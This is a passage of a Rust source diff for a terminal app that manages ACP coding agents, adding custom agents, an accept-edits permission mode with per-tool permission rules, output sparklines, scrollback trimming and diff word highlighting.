@@ -1,34 +1,101 @@
-use crate::acp::{AgentCommand, AskUserOption, PermissionKind, PermissionOptionInfo, PlanEntry};
+use crate::acp::{
+    AgentCommand, AskUserOption, FollowUp, MessageRecorder, PermissionKind, PermissionOptionInfo,
+    PlanEntry, PlanStatus, ToolCallKind,
+};
+use crate::app::ImageAttachment;
+use crate::diff::FileDiff;
+use crate::scroll::ScrollAnchor;
+use crate::tui::components::ConversationCache;
+
+use super::Transcript;
+use std::collections::{HashMap, VecDeque};
+use std::ops::Range;
 use std::path::PathBuf;
-use std::time::{Instant, SystemTime};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::{Duration, Instant, SystemTime};
 
+use regex::Regex;
 use serde::Deserialize;
 
-#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
+/// A user-defined ACP agent from the `[[agents]]` config section
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+pub struct CustomAgent {
+    /// Name shown in the agent picker and session list
+    pub name: String,
+
+    /// Command to run
+    pub command: String,
+
+    /// Arguments to pass to the command
+    #[serde(default)]
+    pub args: Vec<String>,
+
+    /// Environment variables (name -> value)
+    #[serde(default)]
+    pub env: HashMap<String, String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Deserialize)]
 pub enum AgentType {
     ClaudeCode,
     GeminiCli,
+    /// Agent defined in the config file
+    #[serde(skip)]
+    Custom(Arc<CustomAgent>),
 }
 
 impl AgentType {
-    pub fn display_name(&self) -> &'static str {
+    /// Built-in agents, in picker order
+    pub const BUILT_IN: [AgentType; 2] = [AgentType::ClaudeCode, AgentType::GeminiCli];
+
+    pub fn display_name(&self) -> &str {
         match self {
             AgentType::ClaudeCode => "Claude",
             AgentType::GeminiCli => "Gemini",
+            AgentType::Custom(agent) => &agent.name,
         }
     }
 
-    pub fn command(&self) -> &'static str {
+    pub fn command(&self) -> &str {
         match self {
             AgentType::ClaudeCode => "claude-code-acp",
             AgentType::GeminiCli => "gemini",
+            AgentType::Custom(agent) => &agent.command,
+        }
+    }
+
+    pub fn args(&self) -> Vec<&str> {
+        match self {
+            AgentType::ClaudeCode => vec![],
+            AgentType::GeminiCli => vec!["--experimental-acp"],
+            AgentType::Custom(agent) => agent.args.iter().map(String::as_str).collect(),
         }
     }
 
-    pub fn args(&self) -> &'static [&'static str] {
+    /// The built-in or custom agent called `name` (its display name, command or,
+    /// for built-in agents, config name), ignoring case
+    pub fn find(name: &str, custom_agents: &[AgentType]) -> Option<AgentType> {
+        let config_name = |agent: &AgentType| match agent {
+            AgentType::ClaudeCode => "ClaudeCode",
+            AgentType::GeminiCli => "GeminiCli",
+            AgentType::Custom(_) => "",
+        };
+        Self::BUILT_IN
+            .into_iter()
+            .chain(custom_agents.iter().cloned())
+            .find(|agent| {
+                [agent.display_name(), agent.command(), config_name(agent)]
+                    .iter()
+                    .any(|candidate| !candidate.is_empty() && candidate.eq_ignore_ascii_case(name))
+            })
+    }
+
+    /// Extra environment variables for the agent process
+    pub fn env(&self) -> Option<&HashMap<String, String>> {
         match self {
-            AgentType::ClaudeCode => &[],
-            AgentType::GeminiCli => &["--experimental-acp"],
+            AgentType::Custom(agent) => Some(&agent.env),
+            _ => None,
         }
     }
 }
@@ -91,7 +158,6 @@ impl SessionState {
     }
 
     /// Returns true if the session can receive a new prompt
-    #[allow(dead_code)]
     pub fn can_prompt(&self) -> bool {
         matches!(self, SessionState::Idle)
     }
@@ -102,9 +168,10 @@ impl SessionState {
 pub enum PermissionMode {
     #[default]
     Normal, // Ask for each permission
-    Plan,      // Plan mode - more cautious
-    AcceptAll, // Auto-accept all permissions
-    Yolo,      // Auto-accept everything, no questions asked
+    Plan,        // Plan mode - more cautious
+    AcceptEdits, // Auto-accept file edits, ask for everything else
+    AcceptAll,   // Auto-accept all permissions
+    Yolo,        // Auto-accept everything, no questions asked
 }
 
 impl PermissionMode {
@@ -112,7 +179,8 @@ impl PermissionMode {
     pub fn next(self) -> Self {
         match self {
             PermissionMode::Normal => PermissionMode::Plan,
-            PermissionMode::Plan => PermissionMode::AcceptAll,
+            PermissionMode::Plan => PermissionMode::AcceptEdits,
+            PermissionMode::AcceptEdits => PermissionMode::AcceptAll,
             PermissionMode::AcceptAll => PermissionMode::Yolo,
             PermissionMode::Yolo => PermissionMode::Normal,
         }
@@ -124,14 +192,119 @@ impl PermissionMode {
         match self {
             PermissionMode::Normal => "normal",
             PermissionMode::Plan => "plan",
+            PermissionMode::AcceptEdits => "accept edits",
             PermissionMode::AcceptAll => "accept all",
             PermissionMode::Yolo => "yolo",
         }
     }
 
-    /// Returns true if this mode auto-accepts permissions
-    pub fn auto_accepts(&self) -> bool {
-        matches!(self, PermissionMode::AcceptAll | PermissionMode::Yolo)
+    /// Returns true if this mode auto-accepts a permission request.
+    /// `is_edit` says whether the request is for a file edit (see [`is_edit_permission`]).
+    pub fn auto_accepts(&self, is_edit: bool) -> bool {
+        match self {
+            PermissionMode::AcceptAll | PermissionMode::Yolo => true,
+            PermissionMode::AcceptEdits => is_edit,
+            PermissionMode::Normal | PermissionMode::Plan => false,
+        }
+    }
+}
+
+/// Tool title prefixes that indicate a file edit when the agent sends no tool kind
+const EDIT_TITLE_PREFIXES: &[&str] = &["edit", "multiedit", "write", "notebookedit"];
+
+/// Classify a permission request as a file edit.
+/// Uses the tool kind when the agent sends one, otherwise the tool title.
+pub fn is_edit_permission(kind: Option<&ToolCallKind>, title: Option<&str>) -> bool {
+    match kind {
+        Some(ToolCallKind::Edit) => true,
+        Some(ToolCallKind::Other | ToolCallKind::Unknown) | None => {
+            EDIT_TITLE_PREFIXES.contains(&title_tool_name(title).as_str())
+        }
+        Some(_) => false,
+    }
+}
+
+/// Tool name from a permission title: its first word, lowercased, without
+/// surrounding punctuation (`"Read /src/main.rs"` -> `"read"`)
+fn title_tool_name(title: Option<&str>) -> String {
+    title
+        .and_then(|t| t.split_whitespace().next())
+        .unwrap_or_default()
+        .trim_matches(|c: char| !c.is_alphanumeric())
+        .to_lowercase()
+}
+
+/// First path-like word of a tool title (`"Read /src/main.rs"` -> `"/src/main.rs"`)
+fn path_in_title(title: &str) -> Option<String> {
+    title
+        .split_whitespace()
+        .map(|word| word.trim_matches(|c| matches!(c, '`' | '"' | '\'' | ',' | ':')))
+        .find(|word| word.len() > 1 && ["/", "./", "../", "~/"].iter().any(|p| word.starts_with(p)))
+        .map(str::to_string)
+}
+
+/// Name of a tool kind in the rule lists, None for kinds that say nothing
+/// about the tool
+fn kind_name(kind: &ToolCallKind) -> Option<&'static str> {
+    match kind {
+        ToolCallKind::Read => Some("read"),
+        ToolCallKind::Edit => Some("edit"),
+        ToolCallKind::Delete => Some("delete"),
+        ToolCallKind::Move => Some("move"),
+        ToolCallKind::Search => Some("search"),
+        ToolCallKind::Execute => Some("execute"),
+        ToolCallKind::Think => Some("think"),
+        ToolCallKind::Fetch => Some("fetch"),
+        ToolCallKind::Other | ToolCallKind::Unknown => None,
+    }
+}
+
+/// Characters that let a title hold more than one shell command
+const SHELL_CONTROL_CHARS: &[char] = &[';', '|', '&', '$', '`', '>', '<', '\n', '(', ')'];
+
+/// Per-tool overrides of the permission mode, matched by tool kind, or by the
+/// title's first word for agents that send no kind (case-insensitive)
+#[derive(Debug, Clone, Default)]
+pub struct ToolPermissionRules {
+    /// Tools accepted without asking, in any permission mode
+    pub auto_accept: Vec<String>,
+    /// Tools that always ask, unless the mode is yolo
+    pub never_auto_accept: Vec<String>,
+}
+
+impl ToolPermissionRules {
+    fn matches(names: &[String], tool: &str) -> bool {
+        !tool.is_empty() && names.iter().any(|name| name.eq_ignore_ascii_case(tool))
+    }
+
+    /// Whether a permission request is accepted without asking.
+    /// `never_auto_accept` matches the kind or the title, `auto_accept` only
+    /// the kind, or a title without shell control characters when there's no
+    /// kind. Commands (execute kind) are never accepted by `auto_accept`, as
+    /// their title is the command line.
+    pub fn auto_accepts(
+        &self,
+        mode: PermissionMode,
+        is_edit: bool,
+        kind: Option<&ToolCallKind>,
+        title: Option<&str>,
+    ) -> bool {
+        let kind = kind.and_then(kind_name);
+        let title_tool = title_tool_name(title);
+        let never = kind.is_some_and(|kind| Self::matches(&self.never_auto_accept, kind))
+            || Self::matches(&self.never_auto_accept, &title_tool);
+        if never {
+            return mode == PermissionMode::Yolo;
+        }
+        let listed = match kind {
+            Some("execute") => false,
+            Some(kind) => Self::matches(&self.auto_accept, kind),
+            None => {
+                !title.unwrap_or_default().contains(SHELL_CONTROL_CHARS)
+                    && Self::matches(&self.auto_accept, &title_tool)
+            }
+        };
+        listed || mode.auto_accepts(is_edit)
     }
 }
 
@@ -301,6 +474,76 @@ impl PendingQuestion {
     }
 }
 
+/// Time covered by one sparkline bucket
+const ACTIVITY_BUCKET: Duration = Duration::from_millis(500);
+/// Buckets kept per session, so the sparkline spans the last four seconds
+const ACTIVITY_BUCKETS: usize = 8;
+/// Sparkline glyphs from quietest to busiest
+const SPARK_CHARS: [char; 8] = ['▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
+
+/// Output bytes received per recent time slice, oldest first, for the
+/// sidebar's activity sparkline
+#[derive(Debug, Clone)]
+pub struct OutputActivity {
+    buckets: VecDeque<usize>,
+    /// When the newest bucket started
+    bucket_start: Instant,
+}
+
+impl Default for OutputActivity {
+    fn default() -> Self {
+        Self {
+            buckets: VecDeque::from(vec![0; ACTIVITY_BUCKETS]),
+            bucket_start: Instant::now(),
+        }
+    }
+}
+
+impl OutputActivity {
+    /// Count `bytes` of output arriving now
+    pub fn record(&mut self, bytes: usize) {
+        self.record_at(bytes, Instant::now());
+    }
+
+    fn record_at(&mut self, bytes: usize, now: Instant) {
+        self.advance(now);
+        if let Some(newest) = self.buckets.back_mut() {
+            *newest += bytes;
+        }
+    }
+
+    /// Start new (empty) buckets for the time passed since the newest began
+    pub fn advance(&mut self, now: Instant) {
+        let elapsed = now.saturating_duration_since(self.bucket_start);
+        let steps = (elapsed.as_millis() / ACTIVITY_BUCKET.as_millis()) as usize;
+        if steps == 0 {
+            return;
+        }
+        for _ in 0..steps.min(ACTIVITY_BUCKETS) {
+            self.buckets.pop_front();
+            self.buckets.push_back(0);
+        }
+        self.bucket_start += ACTIVITY_BUCKET * steps as u32;
+    }
+
+    /// Whether no output arrived within the window
+    pub fn is_quiet(&self) -> bool {
+        self.buckets.iter().all(|&bytes| bytes == 0)
+    }
+
+    /// One block character per bucket; the height grows with the log of the
+    /// byte count so a trickle and a flood stay distinguishable
+    pub fn sparkline(&self) -> String {
+        self.buckets
+            .iter()
+            .map(|&bytes| {
+                let magnitude = (usize::BITS - bytes.leading_zeros()) as usize / 2;
+                SPARK_CHARS[magnitude.min(SPARK_CHARS.len() - 1)]
+            })
+            .collect()
+    }
+}
+
 #[derive(Debug, Clone)]
 pub struct Session {
     /// Local session ID (stable, used as HashMap key for agent_commands)
@@ -320,21 +563,45 @@ pub struct Session {
     pub tokens_output: u32,
     pub output: Vec<OutputLine>,
     pub last_activity: Option<Instant>,
+    /// Recent output volume, shown as a sparkline in the session list
+    pub activity: OutputActivity,
     /// When this session was created
     pub created_at: SystemTime,
     pub scroll_offset: usize,
     /// Total rendered lines after text wrapping (updated during render)
     pub total_rendered_lines: usize,
+    /// Index of the last output line visible in the viewport (updated during render)
+    pub last_visible_output: usize,
     pub pending_permission: Option<PendingPermission>,
     pub pending_question: Option<PendingQuestion>,
     pub plan_entries: Vec<PlanEntry>,
+    /// Output index where work on each plan entry started, keyed by entry content
+    pub plan_marks: HashMap<String, usize>,
+    /// Output line the conversation view should scroll to on the next render
+    pub scroll_to_output: Option<usize>,
+    /// Output index of the user message last jumped to with `{`/`}`
+    pub focused_user_input: Option<usize>,
+    /// Current mode ID (reported by the agent or set with [M])
     pub current_mode: Option<String>,
+    /// Modes the agent offers for this session (e.g. plan / act / auto)
+    pub available_modes: Vec<ModeInfo>,
     pub active_tool_call_id: Option<String>,
     pub permission_mode: PermissionMode,
+    /// Started in a trusted directory's auto-accept mode
+    pub trusted: bool,
+    /// Whether the agent accepts images in prompts, once it has said
+    pub accepts_images: Option<bool>,
+    /// Done with for now: hidden from the sidebar (unless archived sessions are
+    /// shown) while the agent and scrollback stay around
+    pub archived: bool,
     pub available_models: Vec<ModelInfo>,
     pub current_model_id: Option<String>,
+    /// Model picked with [m], re-applied when the agent restarts or resumes
+    pub chosen_model_id: Option<String>,
     /// Available slash commands from the agent
     pub available_commands: Vec<AgentCommand>,
+    /// Prompts the agent suggested at the end of its last turn (sent with Alt+1-9)
+    pub follow_ups: Vec<FollowUp>,
     /// Saved input buffer when permission/question dialog interrupts typing
     pub saved_input: Option<(String, usize)>, // (buffer, cursor_position)
     /// Per-session prompt input buffer
@@ -347,15 +614,87 @@ pub struct Session {
     pub idle_notified: bool,
     /// Git diff statistics (insertions/deletions compared to base branch)
     pub diff_stats: Option<crate::git::DiffStats>,
+    /// Commits (ahead of, behind) the branch's upstream; None without an upstream
+    pub ahead_behind: Option<(usize, usize)>,
+    /// Last lines the agent wrote to stderr (always captured, for bug reports)
+    pub stderr_tail: VecDeque<String>,
+    /// Automatic reconnects attempted since the agent last completed a prompt
+    pub reconnect_attempts: u32,
+    /// Whether the agent is being respawned and its session reloaded
+    pub reconnecting: bool,
+    /// Maximum output lines kept before trimming from the front (0 = unlimited)
+    pub max_scrollback: usize,
+    /// Number of output lines trimmed from the front so far
+    pub trimmed_lines: usize,
+    /// Regex the output is filtered by (like grep over the scrollback)
+    pub output_filter: Option<Regex>,
+    /// Whether only lines matching `output_filter` are shown
+    pub filter_active: bool,
+    /// Prompts waiting to be sent once the agent is idle
+    pub queued_prompts: VecDeque<String>,
+    /// Tool call shown in full while tool calls are collapsed (navigated to with [ / ])
+    pub expanded_tool: Option<String>,
+    /// Output content at the top of the viewport (updated during render)
+    pub scroll_anchor: ScrollAnchor,
+    /// The terminal was resized: restore `scroll_anchor` once the output is rewrapped
+    pub reflow_pending: bool,
+    /// Last prompt sent to the agent, as typed, for [R] to resend
+    pub last_prompt: Option<(String, Vec<ImageAttachment>)>, // (text, attachments)
+    /// New output arrived while another session was selected
+    pub has_unread: bool,
+    /// Last agent error, how often it repeated and when it was last seen
+    pub last_error: Option<(String, usize, Instant)>,
+    /// Preamble still to be sent ahead of the first prompt of a new session
+    pub pending_preamble: Option<String>,
+    /// Rendered output lines kept between frames
+    pub render_cache: ConversationCache,
+    /// Raw ACP messages exchanged with this session's agent
+    pub acp_messages: MessageRecorder,
+    /// Output mirrored to disk as it arrives (with `save_transcripts`)
+    pub transcript: Option<Transcript>,
 }
 
-/// Re-export ModelInfo for use in session
-pub use crate::acp::ModelInfo;
+/// Re-export ModelInfo and ModeInfo for use in session
+pub use crate::acp::{ModeInfo, ModelInfo};
+
+/// Number of agent stderr lines kept for bug reports
+pub const STDERR_TAIL_LINES: usize = 20;
+
+/// Default maximum number of output lines kept per session
+pub const DEFAULT_MAX_SCROLLBACK: usize = 10_000;
+
+/// Identical errors arriving within this long of each other are collapsed
+const ERROR_REPEAT_WINDOW: Duration = Duration::from_secs(10);
+
+/// Output lines of a failed tool call included when asking about its error
+const MAX_ERROR_DETAIL_LINES: usize = 20;
 
 #[derive(Debug, Clone)]
 pub struct OutputLine {
     pub content: String,
     pub line_type: OutputType,
+    /// Full file change attached to the first line of a written-file diff
+    pub file_diff: Option<Box<FileDiff>>,
+    /// Byte ranges of `content` that changed within an edited diff line
+    pub word_changes: Vec<Range<usize>>,
+    /// When the line was added (shown with 'T')
+    pub timestamp: SystemTime,
+    /// Unique per line and content change: rendered lines are cached by it
+    pub revision: u64,
+}
+
+/// Source of [`OutputLine::revision`]s, unique across sessions
+static NEXT_REVISION: AtomicU64 = AtomicU64::new(0);
+
+fn next_revision() -> u64 {
+    NEXT_REVISION.fetch_add(1, Ordering::Relaxed)
+}
+
+impl OutputLine {
+    /// Record that the line changed, so its cached rendering is redone
+    fn touch(&mut self) {
+        self.revision = next_revision();
+    }
 }
 
 #[derive(Debug, Clone, PartialEq)]
@@ -379,6 +718,23 @@ pub enum OutputType {
     BashCommand,   // User's bash command (prefixed with !)
     BashOutput,    // Output from a bash command
     SystemMessage, // System messages (e.g., "Cancelled")
+    AgentStderr,   // Agent diagnostics: non-JSON stdout, and stderr when show_agent_stderr is set
+    Preamble,      // Configured preamble sent with the first prompt (dim, not a user turn)
+}
+
+impl OutputType {
+    /// Whether this line belongs to the tool call above it (its output or diff),
+    /// and is hidden along with it when tool calls are collapsed
+    pub fn is_tool_detail(&self) -> bool {
+        matches!(
+            self,
+            OutputType::ToolOutput
+                | OutputType::DiffAdd
+                | OutputType::DiffRemove
+                | OutputType::DiffContext
+                | OutputType::DiffHeader
+        )
+    }
 }
 
 impl Session {
@@ -403,24 +759,54 @@ impl Session {
             tokens_output: 0,
             output: vec![],
             last_activity: Some(Instant::now()),
+            activity: OutputActivity::default(),
             created_at: SystemTime::now(),
             scroll_offset: usize::MAX,
             total_rendered_lines: 0,
+            last_visible_output: 0,
             pending_permission: None,
             pending_question: None,
             plan_entries: vec![],
+            plan_marks: HashMap::new(),
+            scroll_to_output: None,
+            focused_user_input: None,
             current_mode: None,
+            available_modes: vec![],
             active_tool_call_id: None,
             permission_mode: PermissionMode::default(),
+            trusted: false,
+            accepts_images: None,
+            archived: false,
             available_models: vec![],
             current_model_id: None,
+            chosen_model_id: None,
             available_commands: vec![],
+            follow_ups: vec![],
             saved_input: None,
             input_buffer: String::new(),
             input_cursor: 0,
             current_thought: None,
             idle_notified: false,
             diff_stats: None,
+            ahead_behind: None,
+            stderr_tail: VecDeque::new(),
+            reconnect_attempts: 0,
+            reconnecting: false,
+            max_scrollback: DEFAULT_MAX_SCROLLBACK,
+            trimmed_lines: 0,
+            output_filter: None,
+            filter_active: false,
+            queued_prompts: VecDeque::new(),
+            expanded_tool: None,
+            scroll_anchor: ScrollAnchor::default(),
+            reflow_pending: false,
+            has_unread: false,
+            last_error: None,
+            pending_preamble: None,
+            render_cache: ConversationCache::default(),
+            acp_messages: MessageRecorder::default(),
+            transcript: None,
+            last_prompt: None,
         }
     }
 
@@ -431,8 +817,8 @@ impl Session {
     #[allow(dead_code)]
     pub fn transition_to(&mut self, new_state: SessionState) {
         if !self.state.can_transition_to(new_state) {
-            crate::log::log(&format!(
-                "Warning: Invalid state transition {:?} -> {:?} for session {}",
+            crate::log::warn(&format!(
+                "Invalid state transition {:?} -> {:?} for session {}",
                 self.state, new_state, self.id
             ));
         }
@@ -452,7 +838,6 @@ impl Session {
     }
 
     /// Check if the session is awaiting any user input
-    #[allow(dead_code)]
     pub fn is_awaiting_user(&self) -> bool {
         self.state.awaiting_user()
     }
@@ -489,9 +874,34 @@ impl Session {
         let next_idx = (current_idx + 1) % self.available_models.len();
         let next_model_id = self.available_models[next_idx].model_id.clone();
         self.current_model_id = Some(next_model_id.clone());
+        self.chosen_model_id = Some(next_model_id.clone());
         Some(next_model_id)
     }
 
+    /// Once the agent has (re)created the session with its default model, go
+    /// back to the one picked with [m]. Returns the model to switch the agent
+    /// to. A model the agent no longer offers is forgotten, with a warning.
+    pub fn restore_chosen_model(&mut self) -> Option<String> {
+        let chosen = self.chosen_model_id.clone()?;
+        if self.current_model_id.as_ref() == Some(&chosen) {
+            return None;
+        }
+        if !self.available_models.iter().any(|m| m.model_id == chosen) {
+            self.chosen_model_id = None;
+            self.add_output(
+                format!(
+                    "Model {} is no longer available, using {}",
+                    chosen,
+                    self.current_model_name().unwrap_or("the agent's default")
+                ),
+                OutputType::SystemMessage,
+            );
+            return None;
+        }
+        self.current_model_id = Some(chosen.clone());
+        Some(chosen)
+    }
+
     /// Get display name for current model
     pub fn current_model_name(&self) -> Option<&str> {
         self.current_model_id.as_ref().and_then(|id| {
@@ -502,6 +912,35 @@ impl Session {
         })
     }
 
+    /// Cycle to the next available mode, returns the new mode ID if changed
+    pub fn cycle_mode(&mut self) -> Option<String> {
+        if self.available_modes.len() < 2 {
+            return None;
+        }
+
+        let current_idx = self
+            .current_mode
+            .as_ref()
+            .and_then(|id| self.available_modes.iter().position(|m| &m.id == id))
+            .unwrap_or(0);
+
+        let next_idx = (current_idx + 1) % self.available_modes.len();
+        let next_mode_id = self.available_modes[next_idx].id.clone();
+        self.current_mode = Some(next_mode_id.clone());
+        Some(next_mode_id)
+    }
+
+    /// Get display name for current mode, falling back to its ID
+    pub fn current_mode_name(&self) -> Option<&str> {
+        let id = self.current_mode.as_deref()?;
+        Some(
+            self.available_modes
+                .iter()
+                .find(|m| m.id == id)
+                .map_or(id, |m| m.name.as_str()),
+        )
+    }
+
     /// Scroll up by n lines. If at bottom (usize::MAX), first normalize to actual position.
     pub fn scroll_up(&mut self, n: usize, total_lines: usize, viewport_height: usize) {
         // Normalize usize::MAX to actual bottom position
@@ -533,8 +972,97 @@ impl Session {
     }
 
     pub fn add_output(&mut self, content: String, line_type: OutputType) {
-        self.output.push(OutputLine { content, line_type });
+        if let Some(transcript) = &self.transcript {
+            transcript.add_line(&line_type, &content);
+        }
+        self.activity.record(content.len());
+        self.output.push(OutputLine {
+            content,
+            line_type,
+            file_diff: None,
+            word_changes: Vec::new(),
+            timestamp: SystemTime::now(),
+            revision: next_revision(),
+        });
         self.last_activity = Some(Instant::now());
+        self.trim_scrollback();
+    }
+
+    /// Show an agent error, collapsing quick repeats of the same error into
+    /// one "(×N)" line instead of flooding the output
+    pub fn add_error(&mut self, message: &str) {
+        if let Some((last, count, seen)) = &mut self.last_error
+            && last == message
+            && seen.elapsed() < ERROR_REPEAT_WINDOW
+            && let Some(line) = self
+                .output
+                .last_mut()
+                .filter(|line| line.line_type == OutputType::Error)
+        {
+            *count += 1;
+            *seen = Instant::now();
+            line.content = format!("Error: {} (×{})", message, count);
+            line.touch();
+            self.last_activity = Some(Instant::now());
+            return;
+        }
+        self.last_error = Some((message.to_string(), 1, Instant::now()));
+        self.add_output(format!("Error: {}", message), OutputType::Error);
+    }
+
+    /// Drop the oldest output lines once the output exceeds `max_scrollback`.
+    ///
+    /// Trims an extra tenth of the limit at a time so the front of the buffer
+    /// isn't shifted on every new line, and keeps a marker line at the top.
+    fn trim_scrollback(&mut self) {
+        if self.max_scrollback == 0 || self.output.len() <= self.max_scrollback {
+            return;
+        }
+
+        // The marker occupies index 0 once anything has been trimmed
+        let first = usize::from(self.trimmed_lines > 0);
+        let target = self.max_scrollback - self.max_scrollback / 10;
+        let remove = (self.output.len() - target).min(self.output.len() - first);
+        self.output.drain(first..first + remove);
+        self.trimmed_lines += remove;
+
+        let marker = OutputLine {
+            content: format!("… {} earlier lines trimmed …", self.trimmed_lines),
+            line_type: OutputType::SystemMessage,
+            file_diff: None,
+            word_changes: Vec::new(),
+            timestamp: SystemTime::now(),
+            revision: next_revision(),
+        };
+        if first == 0 {
+            self.output.insert(0, marker);
+        } else {
+            self.output[0] = marker;
+        }
+
+        // Keep the viewport on the same content when scrolled up. The exact
+        // number of rendered lines removed isn't known here; each output line
+        // renders to at least one, and the next render recomputes the totals.
+        let removed_lines = remove - (1 - first);
+        if self.scroll_offset != usize::MAX {
+            self.scroll_offset = self.scroll_offset.saturating_sub(removed_lines);
+        }
+        self.total_rendered_lines = self.total_rendered_lines.saturating_sub(removed_lines);
+        self.last_visible_output = self.last_visible_output.saturating_sub(removed_lines);
+        for mark in self.plan_marks.values_mut() {
+            *mark = mark.saturating_sub(removed_lines);
+        }
+        self.focused_user_input = None;
+    }
+
+    /// The text to send for a prompt: the first prompt of a new session
+    /// carries the pending preamble ahead of what was typed
+    pub fn prompt_with_preamble(&mut self, text: &str) -> String {
+        match self.pending_preamble.take() {
+            Some(preamble) if text.is_empty() => preamble,
+            Some(preamble) => format!("{}\n\n{}", preamble, text),
+            None => text.to_string(),
+        }
     }
 
     /// Append text to the last output line (for streaming), or create new line
@@ -542,7 +1070,12 @@ impl Session {
         if let Some(last) = self.output.last_mut() {
             // Only append to non-empty text lines (empty lines are for spacing)
             if matches!(last.line_type, OutputType::Text) && !last.content.is_empty() {
+                if let Some(transcript) = &self.transcript {
+                    transcript.append(&text);
+                }
+                self.activity.record(text.len());
                 last.content.push_str(&text);
+                last.touch();
                 self.last_activity = Some(Instant::now());
                 return;
             }
@@ -562,15 +1095,23 @@ impl Session {
         if let Some(last) = self.output.last_mut()
             && matches!(last.line_type, OutputType::Thought)
         {
+            self.activity
+                .record(text.len().saturating_sub(last.content.len()));
             last.content = text;
+            last.touch();
             self.last_activity = Some(Instant::now());
             return;
         }
 
         // Create a new thought line
+        self.activity.record(text.len());
         self.output.push(OutputLine {
             content: text,
             line_type: OutputType::Thought,
+            file_diff: None,
+            word_changes: Vec::new(),
+            timestamp: SystemTime::now(),
+            revision: next_revision(),
         });
         self.last_activity = Some(Instant::now());
     }
@@ -640,6 +1181,7 @@ impl Session {
                 if let Some(json) = raw_json {
                     existing_raw_json.push(json);
                 }
+                line.touch();
                 self.last_activity = Some(Instant::now());
                 return;
             }
@@ -647,17 +1189,26 @@ impl Session {
 
         // New tool call - add it
         self.active_tool_call_id = Some(tool_call_id.clone());
+        let line_type = OutputType::ToolCall {
+            tool_call_id,
+            name,
+            description,
+            failed: false,
+            raw_json: raw_json.into_iter().collect(),
+        };
+        if let Some(transcript) = &self.transcript {
+            transcript.add_line(&line_type, "");
+        }
         self.output.push(OutputLine {
             content: String::new(),
-            line_type: OutputType::ToolCall {
-                tool_call_id,
-                name,
-                description,
-                failed: false,
-                raw_json: raw_json.into_iter().collect(),
-            },
+            line_type,
+            file_diff: None,
+            word_changes: Vec::new(),
+            timestamp: SystemTime::now(),
+            revision: next_revision(),
         });
         self.last_activity = Some(Instant::now());
+        self.trim_scrollback();
     }
 
     /// Mark the current tool as complete
@@ -676,6 +1227,7 @@ impl Session {
                 && existing_id == tool_call_id
             {
                 *failed = true;
+                line.touch();
                 break;
             }
         }
@@ -692,10 +1244,12 @@ impl Session {
         if dominated == "completed" || dominated == "running" || dominated == "pending" {
             return;
         }
+        self.activity.record(content.len());
 
         // Check if this looks like diff content
         // Diff lines from generate_diff have format: "<sign><line_info> <content>"
         // where sign is '+', '-', or ' ' and line_info is like "  42   43"
+        let first_new = self.output.len();
         for line in content.lines() {
             let (line_type, stored_content) = if line.starts_with('+') && !line.starts_with("+++") {
                 // Added line - strip the '+' prefix since we use color coding
@@ -729,12 +1283,369 @@ impl Session {
             } else {
                 (OutputType::ToolOutput, line.to_string())
             };
+            if let Some(transcript) = &self.transcript {
+                transcript.add_line(&line_type, &stored_content);
+            }
             self.output.push(OutputLine {
                 content: stored_content,
                 line_type,
+                file_diff: None,
+                word_changes: Vec::new(),
+                timestamp: SystemTime::now(),
+                revision: next_revision(),
             });
         }
+        self.highlight_word_changes(first_new);
         self.last_activity = Some(Instant::now());
+        self.trim_scrollback();
+    }
+
+    /// Mark the changed words in edited diff lines from `start` onwards.
+    ///
+    /// A run of removed lines directly followed by a run of added lines is an
+    /// edit; lines are paired up in order. Unpaired lines (pure insertions or
+    /// deletions) keep whole-line coloring.
+    fn highlight_word_changes(&mut self, start: usize) {
+        // Skip the "  42   43 " line-number column in front of the code
+        const CODE_START: usize = 10;
+        let code = |line: &OutputLine| {
+            line.content
+                .get(CODE_START..)
+                .unwrap_or_default()
+                .to_string()
+        };
+        let shift = |ranges: Vec<Range<usize>>| {
+            ranges
+                .into_iter()
+                .map(|r| r.start + CODE_START..r.end + CODE_START)
+                .collect::<Vec<_>>()
+        };
+
+        let mut i = start;
+        while i < self.output.len() {
+            if self.output[i].line_type != OutputType::DiffRemove {
+                i += 1;
+                continue;
+            }
+            let removes = i;
+            while i < self.output.len() && self.output[i].line_type == OutputType::DiffRemove {
+                i += 1;
+            }
+            let adds = i;
+            while i < self.output.len() && self.output[i].line_type == OutputType::DiffAdd {
+                i += 1;
+            }
+            let pairs = (adds - removes).min(i - adds);
+            for k in 0..pairs {
+                let (removed, added) = crate::diff::word_changes(
+                    &code(&self.output[removes + k]),
+                    &code(&self.output[adds + k]),
+                );
+                self.output[removes + k].word_changes = shift(removed);
+                self.output[adds + k].word_changes = shift(added);
+                self.output[removes + k].touch();
+                self.output[adds + k].touch();
+            }
+        }
+    }
+
+    /// Clear the output buffer without touching the agent or its ACP session
+    pub fn clear_output(&mut self) {
+        self.output.clear();
+        self.current_thought = None;
+        self.trimmed_lines = 0;
+        self.total_rendered_lines = 0;
+        self.last_visible_output = 0;
+        self.plan_marks.clear();
+        self.scroll_to_bottom();
+    }
+
+    /// Replace the plan, remembering where in the output each entry's work started
+    pub fn set_plan_entries(&mut self, entries: Vec<PlanEntry>) {
+        for entry in &entries {
+            if matches!(entry.status, PlanStatus::InProgress | PlanStatus::Completed) {
+                self.plan_marks
+                    .entry(entry.content.clone())
+                    .or_insert(self.output.len());
+            }
+        }
+        self.plan_entries = entries;
+    }
+
+    /// Scroll the conversation to where work on a plan entry started.
+    /// Returns false if that entry hasn't been started yet.
+    pub fn scroll_to_plan_entry(&mut self, index: usize) -> bool {
+        let Some(mark) = self
+            .plan_entries
+            .get(index)
+            .and_then(|entry| self.plan_marks.get(&entry.content))
+        else {
+            return false;
+        };
+        self.scroll_to_output = Some(*mark);
+        true
+    }
+
+    /// Take a freshly read branch name, e.g. after the agent switched branches.
+    /// Returns whether it changed; the diff stats of the old branch are dropped then.
+    pub fn update_git_branch(&mut self, branch: String) -> bool {
+        if branch.is_empty() || branch == self.git_branch {
+            return false;
+        }
+        self.git_branch = branch;
+        self.diff_stats = None;
+        self.ahead_behind = None;
+        true
+    }
+
+    /// The tool call to inspect: the one expanded with `[`/`]`, else the last
+    /// one at or above the bottom of the viewport. Returns its title and raw JSON.
+    pub fn inspected_tool_call(&self) -> Option<(&str, &[String])> {
